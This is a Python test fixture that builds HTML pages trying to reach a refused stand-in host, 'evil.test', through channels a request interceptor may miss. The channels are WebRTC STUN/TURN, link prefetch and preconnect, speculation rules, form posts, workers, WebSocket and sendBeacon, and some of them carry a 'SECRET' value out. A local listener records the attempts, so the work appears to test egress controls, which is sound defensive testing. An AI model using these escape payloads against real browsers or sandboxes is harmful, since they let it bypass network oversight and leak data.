"""Pages that try to open a connection the request interceptor never sees, and the
raw listener that plays the refused host.

Each escape is a page of its own on the allowed fake portal (``/escape/<name>``),
loaded alone, so a refused navigation cannot hide the attempts after it. The
refused host is ``evil.test`` on the raw listener's own port: the listener logs
every TCP connection and every UDP datagram, whatever protocol rides on it.
"""

from __future__ import annotations

import socket
import threading
import time

# {raw} is evil.test:<the raw listener's port>. Every page calls done() when its
# attempt had time to happen (WebRTC retries STUN for a few seconds).
DONE = "<script>function done(){fetch('/escape-done?{name}').catch(() => 0)}</script>"
RTC = ("<script>const pc = new RTCPeerConnection({{iceServers: [{server}], "
       "iceTransportPolicy: '{policy}'}}); pc.createDataChannel('d');"
       "pc.createOffer().then(o => pc.setLocalDescription(o)).catch(() => 0);"
       "setTimeout(done, 3500);</script>")

ESCAPES = {
    "webrtc-stun": RTC.format(server="{{urls: 'stun:{raw}'}}", policy="all"),
    "webrtc-turn-udp": RTC.format(
        server="{{urls: 'turn:{raw}', username: 'u', credential: 'SECRET'}}", policy="relay"),
    "webrtc-turn-tcp": RTC.format(
        server="{{urls: 'turn:{raw}?transport=tcp', username: 'u', credential: 'SECRET'}}",
        policy="relay"),
    "webrtc-turns": RTC.format(
        server="{{urls: 'turns:{raw}?transport=tcp', username: 'u', credential: 'SECRET'}}",
        policy="relay"),
    "preconnect": ("<link rel='preconnect' href='http://{raw}'>"
                   "<link rel='preconnect' href='https://{raw}' crossorigin>"
                   "<script>setTimeout(done, 1500)</script>"),
    "dns-prefetch": ("<link rel='dns-prefetch' href='//{raw}'>"
                     "<script>setTimeout(done, 1500)</script>"),
    "prefetch": ("<link rel='prefetch' href='http://{raw}/prefetch'>"
                 "<link rel='preload' as='fetch' href='http://{raw}/preload' crossorigin>"
                 "<script type='speculationrules'>{{\"prefetch\": [{{\"source\": \"list\", "
                 "\"urls\": [\"http://{raw}/speculative\"]}}], \"prerender\": [{{\"source\": "
                 "\"list\", \"urls\": [\"http://{raw}/prerender\"]}}]}}</script>"
                 "<script>setTimeout(done, 2000)</script>"),
    "meta-refresh": "<meta http-equiv='refresh' content='0;url=http://{raw}/meta-refresh'>",
    "form-new-window": ("<form id='f' method='post' target='_blank' "
                        "action='http://{raw}/posted'><input name='typed' value='SECRET'></form>"
                        "<script>document.getElementById('f').submit();"
                        "setTimeout(done, 1500)</script>"),
    "worker-fetch": ("<script>const w = new Worker(URL.createObjectURL(new Blob(["
                     "\"fetch('http://{raw}/worker').catch(() => 0);"
                     "new WebSocket('ws://{raw}/worker-ws');\"], {{type: 'text/javascript'}})));"
                     "setTimeout(done, 2000)</script>"),
    "frame-navigates-top": ("<iframe src='/escape-frame-top'></iframe>"
                            "<script>setTimeout(done, 2000)</script>"),
    "object-video": ("<object data='http://{raw}/object'></object>"
                     "<video src='http://{raw}/video.mp4' autoplay muted></video>"
                     "<audio src='http://{raw}/audio.mp3' autoplay></audio>"
                     "<embed src='http://{raw}/embed'>"
                     "<script>setTimeout(done, 2000)</script>"),
    "websocket-beacon": ("<link rel='stylesheet' href='http://{raw}/style.css'>"
                         "<style>@font-face {{font-family: x; src: url(http://{raw}/f.woff)}}"
                         "body {{font-family: x; background: url(http://{raw}/bg.png)}}</style>"
                         "<script>new WebSocket('ws://{raw}/ws');"
                         "navigator.sendBeacon('http://{raw}/beacon', 'SECRET');"
                         "new EventSource('http://{raw}/events');"
                         "setTimeout(done, 2000)</script>"),
}
FRAME_TOP = "<script>top.location.href = 'http://{raw}/top-navigated';</script>"


def page(name: str, raw: str) -> str:
    body = ESCAPES[name].replace("{raw}", raw).replace("{{", "{").replace("}}", "}")
    return (f"<!DOCTYPE html><html><head><meta charset='utf-8'><title>{name}</title>"
            + DONE.replace("{name}", name) + "</head><body><h1>" + name + "</h1>" + body
            + "</body></html>")


def frame_top(raw: str) -> str:
    return FRAME_TOP.replace("{raw}", raw)


class RawListener:
    """TCP and UDP on one port of 127.0.0.1: records whatever arrives, answers nothing."""

    def __init__(self) -> None:
        self.tcp = socket.socket()
        self.tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.tcp.bind(("127.0.0.1", 0))
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        self.tcp.listen(64)
        self.events: list[tuple[float, str, bytes]] = []
        self._open = True
        threading.Thread(target=self._accept, daemon=True).start()
        threading.Thread(target=self._receive, daemon=True).start()

    def _accept(self) -> None:
        while self._open:
            try:
                connection, _ = self.tcp.accept()
            except OSError:
                return
            connection.settimeout(0.5)
            try:
                data = connection.recv(512)
            except OSError:
                data = b""
            self.events.append((time.time(), "tcp", data))
            connection.close()

    def _receive(self) -> None:
        while self._open:
            try:
                data, _ = self.udp.recvfrom(4096)
            except OSError:
                return
            self.events.append((time.time(), "udp", data))

    def self_check(self) -> None:
        """Prove the listener hears both kinds, so "nothing heard" means something."""
        with socket.create_connection(("127.0.0.1", self.port), timeout=2) as probe:
            probe.sendall(b"probe")
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
            probe.sendto(b"probe", ("127.0.0.1", self.port))
        deadline = time.monotonic() + 3
        while {kind for _, kind, _ in self.events} != {"tcp", "udp"}:
            assert time.monotonic() < deadline, self.events
            time.sleep(0.02)
        self.events.clear()

    def close(self) -> None:
        self._open = False
        self.tcp.close()
        self.udp.close()
